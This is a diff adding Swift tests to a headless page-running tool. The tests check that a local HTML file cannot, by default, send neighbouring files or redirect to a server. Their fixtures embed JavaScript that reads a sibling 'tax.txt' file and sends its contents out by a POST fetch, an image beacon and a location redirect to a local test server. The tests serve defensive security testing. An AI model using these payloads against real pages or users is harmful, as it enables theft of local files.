@@ -1,5 +1,6 @@
 import Foundation
 import Testing
+import TomboloEngine
 import TomboloTesting
 
 extension CommandTests {
@@ -7,6 +8,53 @@ extension CommandTests {
         @Test func aFileIsServedWithItsFolder() async throws {
             let run = try await CommandRun.open("My Site/other page.html", "--evaluate", "scripts/place.js")
             #expect(run.output == #"["app://my-site","app://my-site/other%20page.html"]"# + "\n", "\(run.errors)")
+        }
+
+        /// In clear text it sends nothing to a server that no policy names, whatever the policy; the one that is named shows that the page tries.
+        @Test(arguments: [("local", 0), ("none", 0), ("named", 2)])
+        func aFileSendsWhatLiesBesideItNowhereByDefault(policy: String, requests: Int) async throws {
+            let server = try await LocalServer.start()
+            let folder = TemporaryFolder()
+            try Data("secret".utf8).write(to: folder.file("tax.txt"))
+            let web = server.url("/ok").absoluteString
+            let page = """
+                <script>
+                window.sent = (async () => {
+                    const body = await (await fetch('tax.txt')).text();
+                    await fetch('\(web)', {method: 'POST', mode: 'no-cors', body}).catch(() => {});
+                    const image = new Image();
+                    await new Promise((end) => { image.onerror = image.onload = end; image.src = '\(web)?' + body; });
+                    return body;
+                })();
+                </script>
+                """
+            try Data(page.utf8).write(to: folder.file("mail.html"))
+            let origin = Origin(of: server.url("/ok")).description
+            let named = "connect-src 'self' \(origin); img-src \(origin)"
+            let options = policy == "local" ? [] : ["--csp", policy == "named" ? named : policy]
+            let run = try await CommandRun.of(
+                ["open", folder.file("mail.html").path(percentEncoded: false), "--headless", "--timeout", "60"]
+                    + options
+                    + ["--evaluate", "-"], input: "return await window.sent")
+            #expect(run.output == "\"secret\"\n", "\(run.errors)")
+            #expect(run.errors.contains("--csp \(policy)") == (policy != "named"))
+            #expect(await server.requestCount(of: "/ok") == requests)
+            await server.stop()
+        }
+
+        @Test func aFileLeadsItselfNowhereByDefault() async throws {
+            let server = try await LocalServer.start()
+            let folder = TemporaryFolder()
+            let page =
+                "<script>setTimeout(() => { location = '\(server.url("/ok").absoluteString)?secret' }, 0)</script>"
+            try Data(page.utf8).write(to: folder.file("mail.html"))
+            let run = try await CommandRun.of(
+                ["open", folder.file("mail.html").path(percentEncoded: false), "--headless", "--timeout", "60"]
+                    + ["--evaluate", "-"],
+                input: "await new Promise((end) => setTimeout(end, 500)); return 'still here'")
+            #expect(run.output == "\"still here\"\n", "\(run.errors)")
+            #expect(await server.requestCount(of: "/ok") == 0)
+            await server.stop()
         }
 
         @Test func aFileURLIsAFile() async throws {
